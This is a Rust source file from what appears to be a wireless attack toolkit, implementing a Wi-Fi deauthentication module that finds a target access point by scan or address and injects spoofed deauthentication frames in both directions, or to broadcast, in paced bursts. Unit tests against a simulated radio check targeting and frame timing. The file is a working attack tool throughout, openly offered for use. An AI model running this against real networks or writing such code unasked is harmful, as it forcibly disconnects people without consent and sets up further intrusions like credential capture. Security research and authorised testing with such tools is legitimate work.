//! Deauthentication
//!
//! Disconnects clients from an access point by injecting spoofed
//! deauthentication frames in both directions. The access point is given
//! either by BSSID (and channel) or by SSID, in which case an active scan
//! resolves it before the attack may start.
//!
//! A burst is paced across ticks: each `update()` sends at most one frame
//! pair, and the next pair waits for the inter-pair gap. A burst that falls
//! due while the previous one is still draining replaces it.

use async_trait::async_trait;
use secot_core::config::{
    DEAUTH_FRAME_GAP, DEFAULT_DEAUTH_FRAMES, DEFAULT_DEAUTH_INTERVAL, MAX_DEAUTH_FRAMES,
    MIN_DEAUTH_INTERVAL,
};
use secot_core::parameter::{
    describe_options, format_bool, format_interval, format_optional_mac, get_option, parse_bool,
    parse_interval, parse_optional_mac, parse_ranged, render_options, set_option, Access,
    OptionInfo, OptionSpec, ParameterMap, ParameterType,
};
use secot_core::{
    validate_channel, Attack, AttackKind, AttackState, Error, MacAddr, Radio, RadioMode, Result,
};
use secot_packet::deauth_frame;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::Instant;
use tracing::{debug, info, warn};

/// Deauthentication Attack
pub struct Deauth {
    state: AttackState,
    radio: Arc<dyn Radio>,
    ssid: String,
    /// Resolved access point; `None` until set or found by scan
    bssid: Option<MacAddr>,
    channel: u8,
    client: Option<MacAddr>,
    all_clients: bool,
    frames: u8,
    interval: Duration,
    /// Pairs still owed by the current burst
    pairs_left: u8,
    next_pair_at: Instant,
    bursts: u64,
}

impl Deauth {
    pub fn new(radio: Arc<dyn Radio>) -> Self {
        Self {
            state: AttackState::new(),
            radio,
            ssid: String::new(),
            bssid: None,
            channel: 1,
            client: None,
            all_clients: true,
            frames: DEFAULT_DEAUTH_FRAMES,
            interval: DEFAULT_DEAUTH_INTERVAL,
            pairs_left: 0,
            next_pair_at: Instant::now(),
            bursts: 0,
        }
    }

    /// Resolved access point, if any
    pub fn bssid(&self) -> Option<MacAddr> {
        self.bssid
    }

    pub fn channel(&self) -> u8 {
        self.channel
    }

    /// Bursts begun during the current or last run
    pub fn bursts(&self) -> u64 {
        self.bursts
    }

    /// Resolve the target SSID to a BSSID and channel by active scan
    async fn find_access_point(&mut self) -> Result<()> {
        self.radio.set_mode(RadioMode::Station)?;
        let networks = self.radio.scan().await?;
        match networks.into_iter().find(|ap| ap.ssid == self.ssid) {
            Some(ap) => {
                info!(ssid = %ap.ssid, bssid = %ap.bssid, channel = ap.channel, "Target AP found");
                self.bssid = Some(ap.bssid);
                self.channel = ap.channel;
                Ok(())
            }
            None => {
                warn!(ssid = %self.ssid, "Target AP not found");
                Err(Error::discovery("Target AP not found"))
            }
        }
    }

    /// Send one frame pair: AP to client, then client to AP
    fn send_pair(&mut self, ap: MacAddr, client: MacAddr) {
        for (dst, src) in [(client, ap), (ap, client)] {
            let outcome = deauth_frame(dst, src, ap).and_then(|frame| {
                let sent = self.radio.transmit_80211(&frame);
                self.state.record_tx(&sent, frame.len());
                sent
            });
            if let Err(e) = outcome {
                warn!(dst = %dst, error = %e, "Deauth frame not sent");
            }
        }
    }
}

// ============================================================================
// Options
// ============================================================================

static DEAUTH_OPTIONS: &[OptionSpec<Deauth>] = &[
    OptionSpec {
        name: "ssid",
        description: "Target network name (resolved by scan)",
        value_type: ParameterType::String,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.ssid = v.to_string();
            a.bssid = None;
            Ok(())
        },
        get: |a| a.ssid.clone(),
    },
    OptionSpec {
        name: "bssid",
        description: "Target access point address",
        value_type: ParameterType::MacAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.bssid = parse_optional_mac("bssid", v)?;
            Ok(())
        },
        get: |a| format_optional_mac(a.bssid),
    },
    OptionSpec {
        name: "channel",
        description: "Channel of the target access point",
        value_type: ParameterType::Channel,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            let channel = v.trim().parse().unwrap_or(0);
            validate_channel("channel", channel)?;
            a.channel = channel;
            Ok(())
        },
        get: |a| a.channel.to_string(),
    },
    OptionSpec {
        name: "mac",
        description: "Client to disconnect when not attacking all clients",
        value_type: ParameterType::MacAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.client = parse_optional_mac("mac", v)?;
            Ok(())
        },
        get: |a| format_optional_mac(a.client),
    },
    OptionSpec {
        name: "all",
        description: "Deauthenticate every client (broadcast)",
        value_type: ParameterType::Bool,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.all_clients = parse_bool("all", v)?;
            Ok(())
        },
        get: |a| format_bool(a.all_clients),
    },
    OptionSpec {
        name: "frames",
        description: "Frame pairs per burst",
        value_type: ParameterType::U32,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.frames = parse_ranged("frames", v, 1, u32::from(MAX_DEAUTH_FRAMES))? as u8;
            Ok(())
        },
        get: |a| a.frames.to_string(),
    },
    OptionSpec {
        name: "interval",
        description: "Milliseconds between bursts",
        value_type: ParameterType::Millis,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.interval = parse_interval("interval", v, MIN_DEAUTH_INTERVAL)?;
            Ok(())
        },
        get: |a| format_interval(a.interval),
    },
];

// ============================================================================
// Attack
// ============================================================================

#[async_trait]
impl Attack for Deauth {
    fn kind(&self) -> AttackKind {
        AttackKind::Deauth
    }

    fn name(&self) -> &'static str {
        "Deauthentication"
    }

    fn state(&self) -> &AttackState {
        &self.state
    }

    fn state_mut(&mut self) -> &mut AttackState {
        &mut self.state
    }

    async fn on_start(&mut self) -> Result<()> {
        if self.ssid.is_empty() && self.bssid.is_none() {
            return Err(Error::configuration("No target network specified"));
        }
        if !self.all_clients && self.client.is_none() {
            return Err(Error::configuration("No target client specified"));
        }
        if self.bssid.is_none() {
            self.find_access_point().await?;
        }

        self.radio.set_mode(RadioMode::Station)?;
        self.radio.set_channel(self.channel)?;
        self.radio.set_promiscuous(true)?;
        self.pairs_left = 0;
        self.bursts = 0;

        let client = if self.all_clients {
            "all".to_string()
        } else {
            format_optional_mac(self.client)
        };
        info!(
            bssid = %format_optional_mac(self.bssid),
            channel = self.channel,
            client = %client,
            "Deauthenticating"
        );
        Ok(())
    }

    async fn on_stop(&mut self) {
        self.pairs_left = 0;
        if let Err(e) = self.radio.set_promiscuous(false) {
            warn!(error = %e, "Failed to leave promiscuous mode");
        }
        if let Err(e) = self.radio.disconnect() {
            warn!(error = %e, "Failed to reset radio");
        }
    }

    async fn on_tick(&mut self) {
        let Some(ap) = self.bssid else {
            return;
        };
        let now = Instant::now();
        if self.state.action_due(self.interval) {
            if self.pairs_left > 0 {
                debug!(pairs_left = self.pairs_left, "Deauth burst overrun");
            }
            self.pairs_left = self.frames;
            self.next_pair_at = now;
            self.bursts += 1;
        }
        if self.pairs_left == 0 || now < self.next_pair_at {
            return;
        }

        let client = match (self.all_clients, self.client) {
            (false, Some(client)) => client,
            _ => MacAddr::BROADCAST,
        };
        if self.pairs_left == self.frames {
            debug!(ap = %ap, client = %client, frames = self.frames, "Deauth burst");
        }
        self.send_pair(ap, client);
        self.pairs_left -= 1;
        self.next_pair_at = now + DEAUTH_FRAME_GAP;
    }

    fn apply_parameter(&mut self, name: &str, value: &str) -> Result<()> {
        set_option(DEAUTH_OPTIONS, self, name, value)
    }

    fn read_parameter(&self, name: &str) -> Result<String> {
        get_option(DEAUTH_OPTIONS, self, name)
    }

    fn parameters(&self) -> ParameterMap {
        render_options(DEAUTH_OPTIONS, self)
    }

    fn options(&self) -> Vec<OptionInfo> {
        describe_options(DEAUTH_OPTIONS)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use secot_core::{AccessPoint, AttackStatus, SimRadio};

    const AP: MacAddr = MacAddr([0x10, 0x20, 0x30, 0x40, 0x50, 0x60]);

    fn lab_radio() -> Arc<SimRadio> {
        let radio = Arc::new(SimRadio::new());
        radio.add_network(AccessPoint {
            ssid: "Lab".to_string(),
            bssid: AP,
            channel: 6,
            rssi: -40,
        });
        radio
    }

    #[tokio::test(start_paused = true)]
    async fn test_requires_target() {
        let mut attack = Deauth::new(lab_radio());
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "No target network specified");
        assert_eq!(attack.status(), AttackStatus::Error);
    }

    #[tokio::test(start_paused = true)]
    async fn test_ssid_resolved_by_scan() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("ssid", "Lab").unwrap();
        attack.start(Duration::ZERO).await.unwrap();

        assert_eq!(attack.bssid(), Some(AP));
        assert_eq!(attack.channel(), 6);
        assert_eq!(radio.channel(), 6);
        assert_eq!(attack.get_parameter("bssid").unwrap(), "10:20:30:40:50:60");
    }

    #[tokio::test(start_paused = true)]
    async fn test_unknown_ssid_fails() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("ssid", "Elsewhere").unwrap();

        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "Target AP not found");
        assert_eq!(attack.last_error(), Some("Target AP not found"));
        assert_eq!(radio.scan_count(), 1);
    }

    #[tokio::test(start_paused = true)]
    async fn test_bssid_skips_scan_and_ssid_invalidates() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("channel", "11").unwrap();
        attack.start(Duration::ZERO).await.unwrap();
        assert_eq!(radio.scan_count(), 0);
        assert_eq!(radio.channel(), 11);

        attack.set_parameter("ssid", "Lab").unwrap();
        assert_eq!(attack.bssid(), None);
        assert_eq!(attack.get_parameter("bssid").unwrap(), "");
    }

    #[tokio::test(start_paused = true)]
    async fn test_burst_count_over_window() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("frames", "5").unwrap();
        attack.set_parameter("interval", "100").unwrap();

        let window = Duration::from_millis(1000);
        let started = Instant::now();
        attack.start(Duration::ZERO).await.unwrap();
        while started.elapsed() <= window {
            attack.update().await;
            tokio::time::advance(Duration::from_millis(1)).await;
        }

        // floor(D/T) + 1 bursts of 2N frames
        let bursts = (1000 / 100) + 1;
        assert_eq!(attack.bursts(), bursts as u64);
        let sent = radio.sent_80211();
        assert_eq!(sent.len(), bursts * 2 * 5);
        assert_eq!(attack.stats().frames_sent, sent.len() as u64);
    }

    #[tokio::test(start_paused = true)]
    async fn test_long_burst_paced_across_ticks() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("frames", "50").unwrap();
        attack.set_parameter("interval", "100").unwrap();

        let started = Instant::now();
        attack.start(Duration::ZERO).await.unwrap();
        let mut longest = Duration::ZERO;
        while started.elapsed() <= Duration::from_millis(1000) {
            let before = radio.sent_80211().len();
            let tick = Instant::now();
            attack.update().await;
            longest = longest.max(tick.elapsed());
            assert!(radio.sent_80211().len() - before <= 2);
            tokio::time::advance(Duration::from_millis(1)).await;
        }

        assert_eq!(longest, Duration::ZERO);
        assert_eq!(attack.bursts(), 11);
        // One pair every 5 ms from 0 to 1000 ms, each new burst restarting the count
        assert_eq!(radio.sent_80211().len(), 201 * 2);
    }

    #[tokio::test(start_paused = true)]
    async fn test_pair_gap_within_burst() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("frames", "3").unwrap();
        attack.start(Duration::ZERO).await.unwrap();

        attack.update().await;
        assert_eq!(radio.sent_80211().len(), 2);
        tokio::time::advance(Duration::from_millis(4)).await;
        attack.update().await;
        assert_eq!(radio.sent_80211().len(), 2);
        tokio::time::advance(Duration::from_millis(1)).await;
        attack.update().await;
        assert_eq!(radio.sent_80211().len(), 4);
        tokio::time::advance(DEAUTH_FRAME_GAP).await;
        attack.update().await;
        tokio::time::advance(DEAUTH_FRAME_GAP).await;
        attack.update().await;
        assert_eq!(radio.sent_80211().len(), 6);
        assert_eq!(attack.bursts(), 1);
    }

    #[tokio::test(start_paused = true)]
    async fn test_pair_directions() {
        let radio = lab_radio();
        let client: MacAddr = "AA:BB:CC:DD:EE:FF".parse().unwrap();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("all", "false").unwrap();
        attack.set_parameter("mac", "aa:bb:cc:dd:ee:ff").unwrap();
        attack.set_parameter("frames", "1").unwrap();

        attack.start(Duration::ZERO).await.unwrap();
        attack.update().await;

        let sent = radio.sent_80211();
        assert_eq!(sent.len(), 2);
        // AP -> client
        assert_eq!(&sent[0].bytes[4..10], client.as_bytes());
        assert_eq!(&sent[0].bytes[10..16], AP.as_bytes());
        // client -> AP
        assert_eq!(&sent[1].bytes[4..10], AP.as_bytes());
        assert_eq!(&sent[1].bytes[10..16], client.as_bytes());
        assert!(sent.iter().all(|f| &f.bytes[16..22] == AP.as_bytes()));
    }

    #[tokio::test(start_paused = true)]
    async fn test_targeted_requires_client() {
        let mut attack = Deauth::new(lab_radio());
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("all", "0").unwrap();
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "No target client specified");
    }

    #[test]
    fn test_option_validation() {
        let mut attack = Deauth::new(lab_radio());
        assert!(attack.set_parameter("frames", "0").is_err());
        assert!(attack.set_parameter("frames", "51").is_err());
        assert!(attack.set_parameter("interval", "99").is_err());
        assert!(attack.set_parameter("channel", "15").is_err());
        assert!(attack.set_parameter("bssid", "not-a-mac").is_err());
        assert_eq!(attack.get_parameter("frames").unwrap(), "5");
        assert_eq!(attack.get_parameter("interval").unwrap(), "1000");
    }

    #[test]
    fn test_parameters_round_trip() {
        let radio = lab_radio();
        let mut attack = Deauth::new(radio.clone());
        attack.set_parameter("ssid", "Lab").unwrap();
        attack.set_parameter("bssid", "10:20:30:40:50:60").unwrap();
        attack.set_parameter("channel", "6").unwrap();
        attack.set_parameter("frames", "12").unwrap();

        let rendered = attack.parameters();
        let names: Vec<_> = rendered.iter().map(|(k, _)| k).collect();
        assert_eq!(
            names,
            vec!["ssid", "bssid", "channel", "mac", "all", "frames", "interval"]
        );

        let mut copy = Deauth::new(radio);
        for (name, value) in rendered.iter() {
            copy.set_parameter(name, value).unwrap();
        }
        assert_eq!(copy.parameters(), rendered);
        assert_eq!(copy.bssid(), Some(AP));
    }
}
